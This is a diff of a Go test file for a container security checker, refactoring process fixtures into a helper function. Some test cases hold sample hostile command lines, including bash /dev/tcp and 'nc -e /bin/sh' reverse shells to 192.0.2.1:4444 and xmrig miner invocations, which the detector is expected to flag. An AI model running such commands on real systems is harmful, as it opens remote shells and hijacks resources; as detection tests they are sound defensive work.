@@ -14,10 +14,14 @@ import (
 
 // doing lets processes be seen in c, which runs as user 1000: the first one of
 // its own, and others as "pid parent uid command".
+func process(pid, parent, uid int, command string) Process {
+	return Process{PID: pid, Parent: parent, UID: uid, Command: command}
+}
+
 func doing(c *Container, others ...Process) {
 	c.Inspect.State.Pid = 10
 	c.Engine = &Engine{}
-	c.Processes = append([]Process{{10, 1, 1000, "/app/serve --port 80"}}, others...)
+	c.Processes = append([]Process{process(10, 1, 1000, "/app/serve --port 80")}, others...)
 }
 
 func wrote(c *Container, paths ...string) {
@@ -45,37 +49,37 @@ func lies(c *Container, target string, mode uint32, ago time.Duration) {
 const digest1 = "sha256:1111111111111111111111111111111111111111111111111111111111111111"
 
 var seenCases = []testCase{
-	{"processes", func(c *Container) { doing(c, Process{11, 10, 1000, "worker"}) }, nil},
-	{"sshd", func(c *Container) { doing(c, Process{11, 10, 1000, "sshd: /usr/sbin/sshd -D [listener]"}) }, []string{"container-sshd-running"}},
-	{"dropbear", func(c *Container) { doing(c, Process{11, 10, 1000, "/usr/sbin/dropbear -F"}) }, []string{"container-sshd-running"}},
-	{"ssh client", func(c *Container) { doing(c, Process{11, 10, 1000, "ssh-agent -a /sshd"}) }, nil},
-	{"root by exec", func(c *Container) { doing(c, Process{20, 5, 0, "-sh"}, Process{21, 20, 0, "vi"}) }, []string{"container-exec-root"}},
-	{"exec", func(c *Container) { doing(c, Process{20, 5, 1000, "sh"}) }, nil},
-	{"exec as somebody else", func(c *Container) { doing(c, Process{20, 5, 33, "sh"}) }, nil},
+	{"processes", func(c *Container) { doing(c, process(11, 10, 1000, "worker")) }, nil},
+	{"sshd", func(c *Container) { doing(c, process(11, 10, 1000, "sshd: /usr/sbin/sshd -D [listener]")) }, []string{"container-sshd-running"}},
+	{"dropbear", func(c *Container) { doing(c, process(11, 10, 1000, "/usr/sbin/dropbear -F")) }, []string{"container-sshd-running"}},
+	{"ssh client", func(c *Container) { doing(c, process(11, 10, 1000, "ssh-agent -a /sshd")) }, nil},
+	{"root by exec", func(c *Container) { doing(c, process(20, 5, 0, "-sh"), process(21, 20, 0, "vi")) }, []string{"container-exec-root"}},
+	{"exec", func(c *Container) { doing(c, process(20, 5, 1000, "sh")) }, nil},
+	{"exec as somebody else", func(c *Container) { doing(c, process(20, 5, 33, "sh")) }, nil},
 	{"root in a container of root", func(c *Container) {
 		c.Settings.Config.User = "0"
-		doing(c, Process{20, 5, 0, "sh"})
+		doing(c, process(20, 5, 0, "sh"))
 	}, []string{"container-runs-as-root"}},
-	{"root by setuid", func(c *Container) { doing(c, Process{11, 10, 0, "/usr/bin/passwd"}) }, []string{"container-process-user-mismatch"}},
-	{"another user", func(c *Container) { doing(c, Process{11, 10, 33, "worker"}) }, []string{"container-process-user-mismatch"}},
+	{"root by setuid", func(c *Container) { doing(c, process(11, 10, 0, "/usr/bin/passwd")) }, []string{"container-process-user-mismatch"}},
+	{"another user", func(c *Container) { doing(c, process(11, 10, 33, "worker")) }, []string{"container-process-user-mismatch"}},
 	{"numbers of a remapping engine", func(c *Container) {
-		doing(c, Process{11, 10, 100033, "worker"})
+		doing(c, process(11, 10, 100033, "worker"))
 		c.Engine.UserNamespaces = true
 	}, nil},
-	{"numbers of a rootless engine", func(c *Container) { doing(c, Process{11, 10, 0, "worker"}); c.Engine.Rootless = true }, nil},
+	{"numbers of a rootless engine", func(c *Container) { doing(c, process(11, 10, 0, "worker")); c.Engine.Rootless = true }, nil},
 	{"stopped since", func(c *Container) {
-		doing(c, Process{11, 10, 0, "sshd"})
+		doing(c, process(11, 10, 0, "sshd"))
 		c.Inspect.State = &container.State{Status: container.StateExited}
 	}, nil},
-	{"miner", func(c *Container) { doing(c, Process{11, 10, 1000, "/tmp/xmrig -o pool"}) }, []string{"container-unexpected-process xmrig"}},
-	{"miner by its pool", func(c *Container) { doing(c, Process{11, 10, 1000, "./httpd -o stratum+tcp://pool.example:3333"}) }, []string{"container-unexpected-process httpd"}},
+	{"miner", func(c *Container) { doing(c, process(11, 10, 1000, "/tmp/xmrig -o pool")) }, []string{"container-unexpected-process xmrig"}},
+	{"miner by its pool", func(c *Container) { doing(c, process(11, 10, 1000, "./httpd -o stratum+tcp://pool.example:3333")) }, []string{"container-unexpected-process httpd"}},
 	{"shell for somebody else", func(c *Container) {
-		doing(c, Process{11, 10, 1000, "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"}, Process{12, 10, 1000, "nc -e /bin/sh 192.0.2.1 4444"})
+		doing(c, process(11, 10, 1000, "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"), process(12, 10, 1000, "nc -e /bin/sh 192.0.2.1 4444"))
 	}, []string{"container-unexpected-process bash", "container-unexpected-process nc"}},
 	{"harmless words", func(c *Container) {
-		doing(c, Process{11, 10, 1000, "nc -l 80"}, Process{12, 10, 1000, "python minerdoc.py"})
+		doing(c, process(11, 10, 1000, "nc -l 80"), process(12, 10, 1000, "python minerdoc.py"))
 	}, nil},
-	{"program that came later", func(c *Container) { doing(c, Process{11, 10, 1000, "/tmp/x -d"}); wrote(c, "+/tmp/x") }, []string{"container-unexpected-process x"}},
+	{"program that came later", func(c *Container) { doing(c, process(11, 10, 1000, "/tmp/x -d")); wrote(c, "+/tmp/x") }, []string{"container-unexpected-process x"}},
 
 	{"programs changed", func(c *Container) {
 		wrote(c, "/usr", "/usr/bin", "+/usr/bin/curl", "/bin/sh", "+/usr/lib/x86_64-linux-gnu/libx.so.1")
@@ -169,17 +173,17 @@ func TestSeenSeverities(t *testing.T) {
 		change func(*Container)
 		want   checks.Severity
 	}{
-		{"root by setuid", func(c *Container) { doing(c, Process{11, 10, 0, "x"}) }, checks.High},
-		{"another user", func(c *Container) { doing(c, Process{11, 10, 33, "x"}) }, checks.Medium},
-		{"miner", func(c *Container) { doing(c, Process{11, 10, 1000, "xmrig"}) }, checks.Critical},
-		{"program that came later", func(c *Container) { doing(c, Process{11, 10, 1000, "/x"}); wrote(c, "+/x") }, checks.High},
+		{"root by setuid", func(c *Container) { doing(c, process(11, 10, 0, "x")) }, checks.High},
+		{"another user", func(c *Container) { doing(c, process(11, 10, 33, "x")) }, checks.Medium},
+		{"miner", func(c *Container) { doing(c, process(11, 10, 1000, "xmrig")) }, checks.Critical},
+		{"program that came later", func(c *Container) { doing(c, process(11, 10, 1000, "/x")); wrote(c, "+/x") }, checks.High},
 		{"root that was seen to leave", func(c *Container) { c.Settings.Config.User = "0"; doing(c) }, checks.Low},
 		{"root that should leave and did not", func(c *Container) {
 			c.Settings.Config.User, c.Settings.Config.Env = "0", []string{gosu}
 			doing(c)
 			c.Processes[0].UID = 0
 		}, checks.High},
-		{"root entered what had left it", func(c *Container) { c.Settings.Config.User = "0"; doing(c, Process{20, 5, 0, "sh"}) }, checks.Low},
+		{"root entered what had left it", func(c *Container) { c.Settings.Config.User = "0"; doing(c, process(20, 5, 0, "sh")) }, checks.Low},
 	} {
 		c := sound()
 		test.change(c)
@@ -191,7 +195,7 @@ func TestSeenSeverities(t *testing.T) {
 
 func TestProcesses(t *testing.T) {
 	got := Processes(container.TopResponse{Processes: [][]string{{"12", "1", "0", "nginx: master"}, {"13", "12", "101", "nginx: worker"}}})
-	if len(got) != 2 || got[1] != (Process{13, 12, 101, "nginx: worker"}) {
+	if len(got) != 2 || got[1] != (process(13, 12, 101, "nginx: worker")) {
 		t.Errorf("%+v", got)
 	}
 	for _, odd := range [][][]string{nil, {{"1"}}, {{"a", "b", "c", "d"}}, {{"1", "2", "root", "d"}}} {
